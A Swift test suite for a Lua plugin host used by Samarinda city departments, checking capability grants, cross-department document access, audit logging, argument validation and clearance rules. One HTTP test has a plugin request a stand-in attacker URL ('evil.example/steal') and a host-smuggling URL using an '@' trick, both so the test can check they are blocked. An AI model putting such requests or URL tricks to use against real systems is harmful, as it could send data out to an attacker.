import Foundation
import SamarindaCore
@testable import SamarindaPlugins
import Testing

@Suite("Host API and grants") struct HostAPITests {
    @Test func hostCallsThatWaitReadAsSequentialCodeAndYield() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.asisten", capabilities: ["model.generate", "docs.search:dinkes", "docs.search:public", "pii.redact"],
                      tools: PluginLab.tool("tanya"), main: """
        local M = {}
        function M.tanya(args)
          local hits = samarinda.docs.search("imunisasi", { limit = 3 })
          local clean = samarinda.pii.redact("NIK 3201234567890001")
          local ok, answer = pcall(samarinda.model.generate, "apa itu " .. hits[1].text)   -- waiting inside pcall
          local inner = coroutine.wrap(function() return samarinda.model.generate("dari coroutine").text end)()
          return { hits = #hits, first = hits[1].collection, clean = clean.text, answer = answer.text, inner = inner,
                   caller = samarinda.caller.department }
        end
        return M
        """)
        _ = await lab.start(services: StandInServices(delay: .milliseconds(20)))
        let r = await lab.call("dinkes.asisten", "tanya")
        #expect(r == .success(["hits": 2, "first": "dinkes", "clean": "NIK [NIK_1]", "answer": "jawaban: apa itu hasil untuk imunisasi",
                               "inner": "jawaban: dari coroutine", "caller": "dinkes"]))
        let event = try #require(lab.audit.events.last { $0.action == "tool.call" })
        #expect(event.fields["capabilities_used"] == "docs.search:dinkes,docs.search:public,model.generate,pii.redact")
    }

    @Test func pluginCannotReadOtherDepartmentsDocuments() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.intip", capabilities: ["docs.search:dinkes", "docs.search:bapenda"], tools: PluginLab.tool("intip"), main: """
        return { intip = function()
          local hits, err = samarinda.docs.search("pajak", { collections = { "bapenda" } })
          return { hits = hits == nil, err = err }
        end }
        """)
        _ = await lab.start()
        let r = await lab.call("dinkes.intip", "intip")
        #expect(r.value?["hits"] == true)
        #expect(r.value?["err"]?.stringValue?.contains("docs.search:bapenda is not granted") == true)
        let status = try #require(lab.host.status().first { $0.id == "dinkes.intip" })
        #expect(status.grants?.denied == ["docs.search:bapenda"])
        #expect(status.warnings.contains { $0.contains("docs.search:bapenda") })
        let load = try #require(lab.audit.events.first { $0.action == "plugin.load" && $0.target == "dinkes.intip" })
        #expect(load.fields["requested"] == "docs.search:dinkes,docs.search:bapenda")
        #expect(load.fields["granted"] == "docs.search:dinkes")
        let call = try #require(lab.audit.events.last { $0.action == "tool.call" })
        #expect(call.fields["capabilities_denied"] == "docs.search:bapenda")
    }

    /// `collections` takes collection names (as passage.collection returns them); `departments` narrows
    /// by department; a department name in `collections` keeps working for older plugins; a
    /// collection outside the grants gets an error naming the setting to change.
    @Test func docsSearchCollectionsAreCollectionsAndDepartmentsAreDepartments() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.cari", capabilities: ["docs.search:dinkes", "docs.search:public", "docs.search:bapenda"], tools: PluginLab.tool("cari"), main: """
        return { cari = function()
          local byName = samarinda.docs.search("imunisasi", { collections = { "dinkes-layanan" } })
          local byDept = samarinda.docs.search("imunisasi", { departments = { "public" } })
          local old = samarinda.docs.search("imunisasi", { collections = { "dinkes" } })
          local none, err = samarinda.docs.search("pajak", { collections = { "bapenda-layanan" } })
          local notGranted, err2 = samarinda.docs.search("pajak", { departments = { "bapenda" } })
          local ok3, err3 = pcall(samarinda.docs.search, "x", { collections = "dinkes-layanan" })
          return { byName = byName[1].collection, n = #byName, byDept = byDept[1].collection, nDept = #byDept, old = old[1].collection, nOld = #old,
                   none = none == nil, err = err, notGranted = notGranted == nil, err2 = err2, ok3 = ok3, err3 = tostring(err3) }
        end }
        """)
        _ = await lab.start()
        let r = try #require(try await lab.call("dinkes.cari", "cari").get())
        #expect(r["byName"] == "dinkes-layanan" && r["n"] == 1, "\(r)")
        #expect(r["byDept"] == "public" && r["nDept"] == 1, "\(r)")
        #expect(r["old"] == "dinkes" && r["nOld"] == 1, "a department name in collections searches that department, as before: \(r)")
        #expect(r["none"] == true)
        let err = r["err"]?.stringValue ?? ""
        #expect(err.contains("no collection named 'bapenda-layanan'") && err.contains("docs.search:dinkes, docs.search:public")
                && err.contains("[plugins.grants.\"dinkes.cari\"]"), "\(err)")
        #expect(r["notGranted"] == true && r["err2"]?.stringValue?.contains("docs.search:bapenda is not granted") == true, "\(r)")
        #expect(r["ok3"] == false && r["err3"]?.stringValue?.contains("bad option 'collections'") == true, "\(r)")
    }

    /// docs/PLUGINS.md's WITA recipe gives Samarinda's date whatever the process's time zone.
    @Test func theDocumentedWITARecipeGivesSamarindasDate() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.jam", tools: PluginLab.tool("jam"), main: """
        local WITA = 8 * 3600
        return { jam = function()
          -- 2026-01-01 16:30 UTC is 2026-01-02 00:30 in Samarinda.
          local t = 1767285000
          return { wita = os.date("!%Y-%m-%d %H:%M", t + WITA), utc = os.date("!%Y-%m-%d %H:%M", t) }
        end }
        """)
        _ = await lab.start()
        #expect(await lab.call("dinkes.jam", "jam") == .success(["wita": "2026-01-02 00:30", "utc": "2026-01-01 16:30"]))
    }

    @Test func httpOnlyToGrantedHosts() async throws {
        let lab = try PluginLab { $0.plugins.grants["dinkes.web"] = PluginGrant(add: ["http:api.kemkes.go.id"]) }
        try lab.write(id: "dinkes.web", capabilities: ["http:api.kemkes.go.id"], tools: PluginLab.tool("ambil"), main: """
        return { ambil = function()
          local ok = samarinda.http.get("https://api.kemkes.go.id/v1/faskes")
          local bad, err = samarinda.http.get("https://evil.example/steal")
          local sneaky, err2 = samarinda.http.get("https://api.kemkes.go.id@evil.example/")
          return { ok = ok.body, bad = bad == nil, err = err, sneaky = sneaky == nil }
        end }
        """)
        _ = await lab.start()
        let r = await lab.call("dinkes.web", "ambil")
        #expect(r.value?["ok"] == "GET https://api.kemkes.go.id/v1/faskes")
        #expect(r.value?["bad"] == true)
        #expect(r.value?["sneaky"] == true)
        #expect(r.value?["err"]?.stringValue?.contains("http:evil.example is not granted") == true)
    }

    @Test func httpNeedsAnOperatorGrantEvenWhenTheManifestAsks() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.web", capabilities: ["http:api.kemkes.go.id", "kv"], tools: PluginLab.tool("cek"),
                      main: "return { cek = function() return { http = type(samarinda.http), kv = type(samarinda.kv) } end }")
        _ = await lab.start()
        #expect(await lab.call("dinkes.web", "cek") == .success(["http": "nil", "kv": "userdata"]))
    }

    @Test func operatorRemoveTakesADefaultAway() async throws {
        let lab = try PluginLab { $0.plugins.grants["dinkes.kv"] = PluginGrant(remove: ["kv"]) }
        try lab.write(id: "dinkes.kv", capabilities: ["kv"], tools: PluginLab.tool("cek"), main: "return { cek = function() return { kv = type(samarinda.kv) } end }")
        _ = await lab.start()
        #expect(await lab.call("dinkes.kv", "cek") == .success(["kv": "nil"]))
    }

    @Test func kvIsPrivateToEachPluginAndPersistent() async throws {
        let lab = try PluginLab()
        let main = """
        return {
          tulis = function(a) samarinda.kv.set("k", { v = a.v }) return {} end,
          baca = function() local v = samarinda.kv.get("k") return { v = v and v.v or "kosong", keys = samarinda.kv.keys() } end,
        }
        """
        try lab.write(id: "dinkes.satu", capabilities: ["kv"], tools: PluginLab.tool("tulis", schema: "properties.v = { type = \"string\" }") + "\n" + PluginLab.tool("baca"), main: main)
        try lab.write(id: "dinkes.dua", capabilities: ["kv"], tools: PluginLab.tool("tulis", schema: "properties.v = { type = \"string\" }") + "\n" + PluginLab.tool("baca"), main: main)
        _ = await lab.start()
        _ = await lab.call("dinkes.satu", "tulis", ["v": "rahasia satu"])
        #expect(await lab.call("dinkes.satu", "baca") == .success(["v": "rahasia satu", "keys": ["k"]]))
        #expect(await lab.call("dinkes.dua", "baca") == .success(["v": "kosong", "keys": [:]]))
        // A fresh host over the same database still has it.
        _ = await lab.start()
        #expect(await lab.call("dinkes.satu", "baca").value?["v"] == "rahasia satu")
    }

    @Test func manyCallsWaitConcurrentlyOnOneStateAndEachGetsItsOwnAnswer() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.paralel", capabilities: ["model.generate"], tools: PluginLab.tool("tanya", schema: "properties.n = { type = \"integer\" }"),
                      main: "return { tanya = function(a) return { text = samarinda.model.generate('q' .. a.n).text, n = a.n } end }")
        _ = await lab.start(services: StandInServices(delay: .milliseconds(200)))
        let results = await withTaskGroup(of: (Int, Result<JSONValue, PluginError>).self) { group in
            for i in 0..<100 { group.addTask { (i, await lab.call("dinkes.paralel", "tanya", ["n": .number(Double(i))])) } }
            var out: [Int: Result<JSONValue, PluginError>] = [:]
            for await (i, r) in group { out[i] = r }
            return out
        }
        for i in 0..<100 {
            #expect(results[i] == .success(["text": .string("jawaban: q\(i)"), "n": .number(Double(i))]))
        }
    }

    @Test func consoleEvaluatesSnippetsAsAPrincipal() async throws {
        let lab = try PluginLab()
        let host = await lab.start()
        let sum = await host.evaluate("1 + 1", as: PluginLab.staff)
        #expect(sum.value == 2)
        let who = await host.evaluate("print('hai') return samarinda.caller.department", as: PluginLab.staff)
        #expect(who.value == "dinkes")
        #expect(who.output == ["hai"])
        let bad = await host.evaluate("while true do end", as: PluginLab.staff)
        #expect(bad.error?.code == "limit_exceeded")
        #expect(lab.audit.events.filter { $0.action == "console.lua" }.count == 3)
    }

    @Test func jsonHelpersRoundTrip() async throws {
        let lab = try PluginLab()
        let host = await lab.start()
        let r = await host.evaluate("local t = samarinda.json.decode('{\"a\":[1,2,{\"b\":true}]}') return samarinda.json.encode(t)", as: PluginLab.staff)
        #expect(r.value == #"{"a":[1,2,{"b":true}]}"#)
    }
}

@Suite("Invocation policy and audit") struct InvocationTests {
    func lab() async throws -> PluginLab {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.data", tools: """
        [[tools]]
        name = "pasien"
        handler = "pasien"
        description = "rahasia"
        classification = "rahasia"
        read_only = true
        allowed = ["dinkes"]
        [tools.input_schema]
        type = "object"
        required = ["id"]
        additionalProperties = false
        properties.id = { type = "string", pattern = "^[0-9]{4}$" }
        """ + "\n" + PluginLab.tool("umum", schema: "required = [\"n\"]\nproperties.n = { type = \"integer\", minimum = 1, maximum = 10 }"), main: """
        return { pasien = function(a) return { id = a.id } end, umum = function(a) return { n = a.n } end }
        """)
        _ = await lab.start()
        return lab
    }

    @Test func argumentsAreValidatedBeforeTheHandlerRuns() async throws {
        let lab = try await lab()
        let r = await lab.call("dinkes.data", "umum", ["n": 11])
        #expect(r.error?.code == "invalid_arguments")
        #expect(r.error?.message.contains("$.n: must be ≤ 10") == true)
        #expect(await lab.call("dinkes.data", "umum", ["n": 3]) == .success(["n": 3]))
        #expect(await lab.call("dinkes.data", "umum", ["x": 3]).error?.message.contains("missing required property 'n'") == true)
    }

    @Test func clearanceAndDepartmentAreChecked() async throws {
        let lab = try await lab()
        let rahasiaStaff = Principal(id: "k2", name: "dokter", department: "dinkes", role: .deptAdmin, clearance: .rahasia)
        #expect(await lab.call("dinkes.data", "pasien", ["id": "1234"], as: PluginLab.staff).error?.code == "forbidden")  // terbatas < rahasia
        #expect(await lab.call("dinkes.data", "pasien", ["id": "1234"], as: rahasiaStaff) == .success(["id": "1234"]))
        let other = Principal(id: "k3", name: "x", department: "bapenda", role: .deptAdmin, clearance: .rahasia)
        #expect(await lab.call("dinkes.data", "pasien", ["id": "1234"], as: other).error?.code == "forbidden")
        let auditor = Principal(id: "k4", name: "a", department: "inspektorat", role: .auditor, clearance: .rahasia)
        #expect(await lab.call("dinkes.data", "umum", ["n": 1], as: auditor).error?.code == "forbidden")
        #expect(await lab.call("dinkes.data", "pasien", ["id": "12x4"], as: rahasiaStaff).error?.code == "invalid_arguments")
        #expect(await lab.call("dinkes.data", "tidak_ada").error?.code == "not_found")
        #expect(await lab.call("dinkes.tidak_ada", "x").error?.code == "not_found")
    }

    @Test func everyInvocationAllowedOrDeniedWritesOneAuditEvent() async throws {
        let lab = try await lab()
        _ = await lab.call("dinkes.data", "umum", ["n": 2])
        _ = await lab.call("dinkes.data", "pasien", ["id": "1234"])
        let events = lab.audit.events.filter { $0.action == "tool.call" }
        #expect(events.count == 2)
        #expect(events[0].outcome == .ok)
        #expect(events[0].fields["plugin_version"] == "1.0.0")
        #expect(events[0].fields["arguments"] == "sha256:" + PluginHost.digest(#"{"n":2}"#))
        #expect(events[0].actor.principalID == "key:test")
        #expect(events[1].outcome == .denied(code: "forbidden"))
        #expect(events[1].classification == .rahasia)
    }

    @Test func tracebacksAreForAdminsOnly() async throws {
        let lab = try PluginLab()
        try lab.write(id: "dinkes.galat", tools: PluginLab.tool("gagal"), main: "return { gagal = function() error('rusak') end }")
        _ = await lab.start()
        guard case .failure(.pluginError(let m, let tb)) = await lab.call("dinkes.galat", "gagal") else { Issue.record("expected plugin_error"); return }
        #expect(m.contains("rusak"))
        #expect(tb == nil)
        guard case .failure(.pluginError(_, let adminTB)) = await lab.call("dinkes.galat", "gagal", as: PluginLab.admin) else { Issue.record("expected plugin_error"); return }
        #expect(adminTB?.contains("stack traceback") == true)
    }

    @Test func toolListingShowsOnlyWhatThePrincipalMayCall() async throws {
        let lab = try await lab()
        #expect(lab.host.tools(for: PluginLab.staff).map(\.qualifiedName) == ["dinkes.data.umum"])
        let list = lab.host.tools(for: PluginLab.admin)
        #expect(list.map(\.qualifiedName) == ["dinkes.data.pasien", "dinkes.data.umum"])
        #expect(list[0].inputSchema["required"] == ["id"])
        #expect(list[0].readOnly)
    }
}
